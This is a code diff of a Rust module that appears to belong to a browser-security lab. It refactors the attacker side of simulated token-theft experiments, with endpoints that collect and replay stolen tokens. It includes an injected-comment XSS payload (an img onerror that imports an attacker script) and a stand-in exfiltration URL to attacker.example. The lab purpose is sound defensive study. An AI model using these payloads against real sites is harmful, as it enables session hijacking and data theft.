@@ -5,14 +5,13 @@
 //! # Layout
 //! - this file: the scripts, and what they send back
 //! - [`forgery`] pages that make the visitor's browser send requests
-//! - [`thief`] the server's own requests to the victim, with the stolen tokens
+//! - [`replay`] the server's own requests to the victim, with the stolen tokens
 
 pub mod forgery;
-pub mod thief;
+pub mod replay;
 
 use std::sync::Arc;
 
-use api_types::paths;
 use axum::{
     Router,
     body::Bytes,
@@ -24,43 +23,19 @@ use axum::{
     response::{IntoResponse, Response},
     routing::{any, get, post},
 };
-use lab_types::{Evidence, Found, Place, Strategy, Threat};
+use lab_types::{CellId, Evidence, StolenValue, Strategy, Threat};
 use serde::Deserialize;
 
-use super::{
-    Lab,
-    recorder::{self, Of},
-    runs::Run,
-    vulnerable::Smuggled,
+use crate::{
+    host, injection::InjectedContent, return_page::return_page, run::Run, scope::EvidenceScope, state::Lab,
+    targets::VictimEndpoints,
 };
-pub use thief::{Copies, Thief};
+use replay::Thief;
 
-/// The user agent of the attacker's server: not hidden, so that the evidence distinguishes it.
-pub const USER_AGENT: &str = "mallory/1.0";
+/// The maximum number of stolen values that are tried.
+const MAX_TRIED: usize = 12;
 
-/// The maximum number of loot pieces that are tried.
-const TRIED: usize = 12;
-
-/// The scripts.
-const SCRIPTS: [(&str, &str); 5] = [
-    ("kit", include_str!("assets/attacks/kit.js")),
-    (
-        Threat::SingleExecutionTheft.slug(),
-        include_str!("assets/attacks/single-execution-theft.js"),
-    ),
-    (
-        Threat::PersistentTheft.slug(),
-        include_str!("assets/attacks/persistent-theft.js"),
-    ),
-    (
-        Threat::NewTokens.slug(),
-        include_str!("assets/attacks/acquiring-new-tokens.js"),
-    ),
-    (
-        Threat::Proxying.slug(),
-        include_str!("assets/attacks/proxying.js"),
-    ),
-];
+const KIT: &str = include_str!("assets/attacks/kit.js");
 
 /// A script that a page of the victim loads without checking its address.
 const WIDGET: &str = include_str!("assets/attacks/widget.js");
@@ -73,74 +48,48 @@ pub fn router(lab: &Arc<Lab>) -> Router {
         .route("/collect", post(collect))
         .route("/hit", any(hit))
         .route("/csrf", get(forgery::navigation))
-        .route("/unseen", get(forgery::unseen))
+        .route("/unseen", get(forgery::background))
         .with_state(Arc::clone(lab));
-    lab.behind_its_door(hosts, &[&lab.sites.attacker, &lab.sites.sibling])
+    host::restrict(hosts, lab, &[&lab.sites.attacker, &lab.sites.sibling])
 }
 
-/// The endpoints of the victim's server, for each strategy. An attacker knows them, because anyone can inspect the
-/// page.
-#[derive(Debug, Clone)]
-pub struct Doors {
-    pub login: String,
-    pub logout: String,
-    pub refresh: String,
-    pub transfer: String,
-    pub me: String,
-}
-
-impl Doors {
-    pub fn of(strategy: Strategy) -> Self {
-        if strategy == Strategy::Keyturn {
-            return Self {
-                login: paths::LOGIN.into(),
-                logout: paths::LOGOUT.into(),
-                refresh: paths::REFRESH.into(),
-                transfer: super::victim::TRANSFER.into(),
-                me: paths::ME.into(),
-            };
-        }
-        let door = |name: &str| format!("/weak/{}/{name}", strategy.slug());
-        Self {
-            login: door("login"),
-            logout: door("logout"),
-            refresh: door("refresh"),
-            transfer: door("transfer"),
-            me: door("me"),
-        }
+/// The script of an attack, if it has one.
+fn script_of(threat: Threat) -> Option<&'static str> {
+    match threat {
+        Threat::SingleExecutionTheft => Some(include_str!("assets/attacks/single-execution-theft.js")),
+        Threat::PersistentTheft => Some(include_str!("assets/attacks/persistent-theft.js")),
+        Threat::NewTokens => Some(include_str!("assets/attacks/acquiring-new-tokens.js")),
+        Threat::Proxying => Some(include_str!("assets/attacks/proxying.js")),
+        _ => None,
     }
 }
 
 /// The code of a cell's attack, for readers of the evidence.
-pub fn code(place: Place) -> Option<String> {
-    match place {
-        Place::Storage { threat, .. } => {
-            let script = SCRIPTS.iter().find(|(name, _)| *name == threat.slug());
-            match script {
-                Some((_, script)) => {
-                    let (_, kit) = SCRIPTS[0];
-                    Some(format!("{script}\n// kit.js\n{kit}"))
-                }
-                None => forgery::code(place),
-            }
-        }
-        Place::Forgery { .. } => forgery::code(place),
-        Place::Script { injection, .. } => {
+pub fn code(cell: CellId) -> Option<String> {
+    match cell {
+        CellId::Storage { threat, .. } => match script_of(threat) {
+            Some(script) => Some(format!("{script}\n// kit.js\n{KIT}")),
+            None => forgery::code(cell),
+        },
+        CellId::Forgery { .. } => forgery::code(cell),
+        CellId::Script { injection, .. } => {
             let attacker = "https://attacker.example";
-            let smuggled = Smuggled::of(injection, "…", attacker, &format!("{attacker}/hit?…"));
-            Some(smuggled.markup + &smuggled.text)
+            let content = InjectedContent::new(injection, "…", attacker, &format!("{attacker}/hit?…"));
+            Some(content.markup + &content.text)
         }
         // There is no attack: the pages of one visitor interfere with each other.
-        Place::Race { .. } => None,
+        CellId::Race { .. } => None,
     }
 }
 
 async fn script(Path(file): Path<String>) -> Response {
-    let found = SCRIPTS
-        .iter()
-        .find(|(name, _)| file.strip_suffix(".js") == Some(*name));
-    match found {
-        Some((_, script)) => javascript(script),
+    let script = match file.strip_suffix(".js") {
+        Some("kit") => Some(KIT),
+        Some(name) => Threat::from_slug(name).and_then(script_of),
+        None => None,
+    };
+    match script {
+        Some(script) => javascript(script),
         None => StatusCode::NOT_FOUND.into_response(),
     }
 }
@@ -155,42 +104,35 @@ fn javascript(script: &'static str) -> Response {
 }
 
 #[derive(Deserialize)]
-struct Brought {
-    found: Vec<Found>,
+struct LootBody {
+    found: Vec<StolenValue>,
 }
 
 /// Receives what a script found, and tries it before responding, so that the evidence is complete when the script ends.
-async fn collect(State(lab): State<Arc<Lab>>, Query(of): Query<Of>, body: Bytes) -> StatusCode {
-    let (Some(run), Some(cell @ Place::Storage { strategy, .. })) = (of.run(&lab), of.cell()) else {
+async fn collect(State(lab): State<Arc<Lab>>, scope: EvidenceScope, body: Bytes) -> StatusCode {
+    let EvidenceScope { run, cell, .. } = scope;
+    let CellId::Storage { strategy, .. } = cell else {
         return StatusCode::NOT_FOUND;
     };
-    let Ok(Brought { found }) = serde_json::from_slice(&body) else {
+    let Ok(LootBody { found }) = serde_json::from_slice(&body) else {
         return StatusCode::BAD_REQUEST;
     };
-    run.note(
+    let at_ms = run.now_ms();
+    run.record(
         cell,
         Evidence::Loot {
-            at_ms: lab.runs.now_ms(),
+            at_ms,
             found: found.clone(),
         },
     );
     // A separate task: closing the page must not stop what its script has begun.
     let tries = tokio::spawn(async move {
         let thief = Thief::new(&lab, &run, strategy, cell);
-        let promising = found.iter().filter(|one| thief::is_promising(strategy, one));
-        for one in promising.take(TRIED) {
-            thief.try_out(&one.value).await;
+        let promising = found.iter().filter(|one| replay::is_promising(strategy, one));
+        for one in promising.take(MAX_TRIED) {
+            thief.try_value(&one.value).await;
         }
-        let (requests, unanswered) = thief.tally();
-        let at_ms = lab.runs.now_ms();
-        run.note(
-            cell,
-            Evidence::Tried {
-                at_ms,
-                requests,
-                unanswered,
-            },
-        );
+        run.record(cell, thief.summary());
     });
     match tries.await {
         Ok(()) => StatusCode::NO_CONTENT,
@@ -199,46 +141,48 @@ async fn collect(State(lab): State<Arc<Lab>>, Query(of): Query<Of>, body: Bytes)
 }
 
 #[derive(Deserialize)]
-struct Hit {
+struct HitQuery {
     what: Option<String>,
 }
 
 /// Accepts any request, whether the data is in the address or in the body.
 async fn hit(
     State(lab): State<Arc<Lab>>,
-    Query(of): Query<Of>,
-    Query(Hit { what }): Query<Hit>,
+    scope: EvidenceScope,
+    Query(HitQuery { what }): Query<HitQuery>,
     method: Method,
     body: Bytes,
 ) -> Response {
-    let (Some(run), Some(cell @ Place::Script { .. })) = (of.run(&lab), of.cell()) else {
+    let EvidenceScope { run, cell, step } = scope;
+    if !matches!(cell, CellId::Script { .. }) {
         return StatusCode::NOT_FOUND.into_response();
-    };
-    let found = Found {
+    }
+    let found = StolenValue {
         place: format!("a {method} of the browser"),
         name: if what.is_some() { "address" } else { "body" }.into(),
         value: what.unwrap_or_else(|| String::from_utf8_lossy(&body).into_owned()),
     };
-    run.note(
+    let at_ms = run.now_ms();
+    run.record(
         cell,
         Evidence::Loot {
-            at_ms: lab.runs.now_ms(),
+            at_ms,
             found: vec![found],
         },
     );
     // A visitor who was navigated here is sent back to the runner.
-    recorder::way_back(&lab, &of, "The attacker’s server has what it wanted.").into_response()
+    return_page(&lab, &run, step, "The attacker’s server has what it wanted.").into_response()
 }
 
 /// A stored comment that loads a script of the attacker into the victim's page.
 pub fn comment(lab: &Lab, run: &Run, strategy: Strategy, threat: Threat) -> String {
-    let cell = Place::Storage { strategy, threat };
+    let cell = CellId::Storage { strategy, threat };
     let address = format!(
         "{}/attacks/{}.js?run={}&cell={cell}&refresh={}",
         lab.sites.attacker,
         threat.slug(),
         run.id,
-        Doors::of(strategy).refresh
+        VictimEndpoints::of(strategy).refresh
     );
     format!("<p>What a fine page.</p><img alt=\"\" src=\"data:,\" onerror=\"import('{address}')\">")
 }
